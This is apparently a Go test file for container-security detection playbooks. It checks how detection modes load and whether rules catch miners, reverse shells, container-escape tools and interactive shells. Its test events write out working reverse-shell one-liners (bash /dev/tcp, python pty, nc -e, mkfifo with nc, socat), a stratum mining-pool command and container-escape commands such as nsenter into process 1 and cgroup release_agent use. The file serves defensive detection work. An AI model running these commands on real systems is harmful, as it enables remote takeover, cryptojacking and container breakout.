package playbooks_test

import (
	"encoding/json"
	"testing"

	"firebreak/playbooks"
	"firebreak/schemas"
	"firebreak/services/playbook"

	"github.com/google/go-cmp/cmp"
)

// specs describe the actions that the library uses, as far as lint looks.
var specs = []schemas.Spec{
	{Name: "container.pause", TargetKind: "container", Undo: "lets it run on", Params: json.RawMessage(`{"type":"object","properties":{"scope":{"enum":["pod","container"]}},"additionalProperties":false}`)},
	{Name: "evidence.capture", TargetKind: "container"},
	{Name: "notify.log", TargetKind: "incident", Params: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string","minLength":1},"to":{"type":"string"}},"required":["text"],"additionalProperties":false}`)},
}

func load(t *testing.T, mode string) map[string]*playbook.Playbook {
	t.Helper()
	sources, err := playbook.FromFS(playbooks.FS, mode)
	if err != nil {
		t.Fatal(err)
	}
	set, findings := playbook.Load(sources, specs)
	for _, f := range findings {
		t.Error(f)
	}
	if set == nil {
		t.Fatal("the library does not load")
	}
	byName := map[string]*playbook.Playbook{}
	for _, p := range set.Playbooks {
		byName[p.Name] = p
	}
	return byName
}

func TestLibraryModes(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		mode string
		want map[string]string
	}{
		{"observe", map[string]string{"drifted-executable": "observe", "escape-tool": "observe", "miner-in-container": "observe", "reverse-shell": "observe", "shell-by-exec": "observe"}},
		{"enforce", map[string]string{"drifted-executable": "observe", "escape-tool": "enforce", "miner-in-container": "enforce", "reverse-shell": "enforce", "shell-by-exec": "enforce"}},
	} {
		got := map[string]string{}
		for name, p := range load(t, tt.mode) {
			got[name] = p.Guard.Mode
			if len(p.By) != 1 || p.Once == 0 {
				t.Errorf("%s: by %v, once %v: want one group for each container, once", name, p.By, p.Once)
			}
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.mode, diff)
		}
	}
}

// event makes a process in a container.
func event(name, origin string, args ...string) schemas.ProcessEvent {
	return schemas.ProcessEvent{
		Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"},
		Process: &schemas.Process{PID: 4711, CommandArgs: args, Executable: &schemas.Executable{Name: name, Path: "/usr/bin/" + name, Origin: origin}},
	}
}

func TestLibraryMatches(t *testing.T) {
	t.Parallel()
	outside := event("xmrig", "host", "xmrig")
	outside.Container = nil
	bare := schemas.ProcessEvent{Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"}, Process: &schemas.Process{PID: 1}}
	for _, tt := range []struct {
		name, playbook string
		event          schemas.ProcessEvent
		want           bool
	}{
		{"xmrig of the upper layer", "miner-in-container", event("xmrig", "upper", "xmrig"), true},
		{"xmrig of the image", "miner-in-container", event("xmrig", "image", "xmrig"), true},
		{"a version of xmrig", "miner-in-container", event("xmrig-6.21", "volume", "./xmrig-6.21"), true},
		{"renamed with a pool", "miner-in-container", event("kworker", "tmpfs", "./kworker", "-o", "stratum+tcp://pool.example:3333"), true},
		{"renamed with a pool behind an equals sign", "miner-in-container", event("x", "memfd", "x", "--url=stratum+ssl://pool.example:3333"), true},
		{"renamed with a miner's options", "miner-in-container", event("nginx", "upper", "nginx", "--donate-level=1"), true},
		{"a search for miners", "miner-in-container", event("grep", "image", "grep", "-r", "stratum+tcp://", "/"), false},
		{"a drifted search for a word", "miner-in-container", event("rg", "upper", "rg", "xmrig", "/"), false},
		{"a name that only begins alike", "miner-in-container", event("xmrigger", "image", "xmrigger"), false},
		{"a miner outside any container", "miner-in-container", outside, false},
		{"nothing known of the program", "miner-in-container", bare, false},

		{"upper", "drifted-executable", event("a", "upper", "a"), true},
		{"memfd", "drifted-executable", event("", "memfd"), true},
		{"image", "drifted-executable", event("a", "image", "a"), false},
		{"volume", "drifted-executable", event("a", "volume", "a"), false},
		{"unknown", "drifted-executable", event("a", "unknown", "a"), false},
		{"nothing known of the program", "drifted-executable", bare, false},

		{"bash on /dev/tcp", "reverse-shell", event("bash", "image", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), true},
		{"sh on /dev/udp", "reverse-shell", event("sh", "image", "sh", "-c", "sh -i >& /dev/udp/10.0.0.1/4242 0>&1"), true},
		{"exec on a descriptor", "reverse-shell", event("bash", "image", "bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | bash >&5"), true},
		{"python", "reverse-shell", event("python3", "image", "python3", "-c", `import socket,pty;s=socket.socket();s.connect(("10.0.0.1",4242));pty.spawn("sh")`), true},
		{"a fifo and nc", "reverse-shell", event("sh", "image", "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f"), true},
		{"nc -e", "reverse-shell", event("nc", "image", "nc", "10.0.0.1", "4242", "-e", "/bin/sh"), true},
		{"nc -lpe", "reverse-shell", event("ncat", "image", "ncat", "-lpe", "/bin/bash"), true},
		{"socat", "reverse-shell", event("socat", "image", "socat", "tcp-connect:10.0.0.1:4242", "exec:'bash -li',pty,stderr"), true},
		{"a look whether a port is open", "reverse-shell", event("bash", "image", "bash", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"), false},
		{"nc as a probe", "reverse-shell", event("nc", "image", "nc", "-z", "db", "5432"), false},
		{"nc that serves a file", "reverse-shell", event("nc", "image", "nc", "-l", "-p", "80"), false},
		{"python that connects", "reverse-shell", event("python3", "image", "python3", "-c", "import socket; socket.create_connection(('db', 5432))"), false},
		{"an interactive shell", "reverse-shell", event("bash", "image", "bash", "-i"), false},
		{"nothing known of the program", "reverse-shell", bare, false},

		{"a tool by name", "escape-tool", event("deepce.sh", "upper", "deepce.sh"), true},
		{"nsenter into process 1", "escape-tool", event("nsenter", "image", "nsenter", "-t", "1", "-m", "sh"), true},
		{"nsenter into process 1 in one word", "escape-tool", event("nsenter", "image", "nsenter", "--target=1", "sh"), true},
		{"nsenter elsewhere", "escape-tool", event("nsenter", "image", "nsenter", "-t", "4711", "-n", "ip", "a"), false},
		{"a dropped container client", "escape-tool", event("ctr", "tmpfs", "ctr", "c", "ls"), true},
		{"the image's container client", "escape-tool", event("docker", "image", "docker", "build", "."), false},
		{"a dropped program on the release agent", "escape-tool", event("x", "upper", "x", "/sys/fs/cgroup/rdma/release_agent"), true},
		{"the image's own program on it", "escape-tool", event("cat", "image", "cat", "/sys/fs/cgroup/rdma/release_agent"), false},
		{"nothing known of the program", "escape-tool", bare, false},

		{"bash", "shell-by-exec", event("bash", "image", "bash"), true},
		{"a login shell", "shell-by-exec", event("sh", "image", "sh", "-l"), true},
		{"by its arguments alone", "shell-by-exec", schemas.ProcessEvent{Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"}, Process: &schemas.Process{PID: 1, CommandArgs: []string{"/bin/sh"}}}, true},
		{"a probe", "shell-by-exec", event("sh", "image", "sh", "-c", "pg_isready"), false},
		{"another program", "shell-by-exec", event("psql", "image", "psql"), false},
	} {
		t.Run(tt.playbook+"/"+tt.name, func(t *testing.T) {
			t.Parallel()
			raw, err := json.Marshal(tt.event)
			if err != nil {
				t.Fatal(err)
			}
			var data map[string]any
			if err := json.Unmarshal(raw, &data); err != nil {
				t.Fatal(err)
			}
			got, err := load(t, "")[tt.playbook].Signals[0].When.Bool(data)
			if got != tt.want {
				t.Errorf("matches: %v, %v, want %v", got, err, tt.want)
			}
			if err != nil && tt.want {
				t.Errorf("got %v", err)
			}
		})
	}
}
